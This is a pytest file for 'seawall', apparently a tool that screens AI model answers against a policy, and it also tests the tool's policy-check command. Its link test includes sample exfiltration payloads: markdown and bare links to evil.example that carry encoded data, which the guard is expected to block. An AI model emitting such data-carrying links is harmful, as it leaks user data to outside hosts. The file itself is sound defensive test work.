"""The example policy and the `seawall policy` commands."""

import json
from pathlib import Path

import jsonschema_rs
import pytest
import yaml

from seawall import Guard
from seawall.catalog.load import load_catalog
from seawall.cli.main import run
from seawall.core.verdicts import Action
from seawall.guard.cards import cards
from seawall.guard.engine import GuardEngine
from seawall.policy.load import load_policy

EXAMPLE = Path(__file__).parents[2] / "examples" / "policy.yaml"


def test_the_example_is_valid_and_its_controls_exist() -> None:
    policy = load_policy(EXAMPLE, set(cards()))
    GuardEngine(policy.guards)
    named = {rule.control for rule in policy.guards}
    named |= {rule.control for rule in policy.tools.rules.values()}
    assert named <= set(load_catalog().controls)


@pytest.mark.parametrize(
    ("answer", "action"),
    [
        ("See https://docs.python.org/3/library/json.html for more.", Action.FLAG),
        ("![map](https://maps.example/x.png)", Action.BLOCK),
        ("[more](https://evil.example/?d=Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4)", Action.BLOCK),
        ("Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", Action.FLAG),
        ("<https://evil.example/a?k=54686520706173737764>", Action.BLOCK),
        ("Read it there.", Action.ALLOW),
    ],
)
def test_links_of_strangers_are_flagged_and_those_that_carry_data_stopped(
    answer: str, action: Action
) -> None:
    guard = Guard(load_policy(EXAMPLE, set(cards())).guards)
    assert guard.check(answer, "output").action is action


def test_check_and_schema_commands(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    assert run(["policy", "check", str(EXAMPLE)]) == 0
    assert "shop-bank" in capsys.readouterr().out
    assert run(["policy", "check", str(EXAMPLE), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["ok"] is True
    assert run(["policy", "schema"]) == 0
    schema = json.loads(capsys.readouterr().out)
    assert jsonschema_rs.validator_for(schema).is_valid(yaml.safe_load(EXAMPLE.read_text()))
    bad = tmp_path / "bad.yaml"
    bad.write_text(EXAMPLE.read_text().replace("block_mode: error", "block_mode: eror"))
    assert run(["policy", "check", str(bad)]) == 2
    assert "bad.yaml:" in capsys.readouterr().err
    assert run(["policy", "check", str(tmp_path / "none.yaml")]) == 2
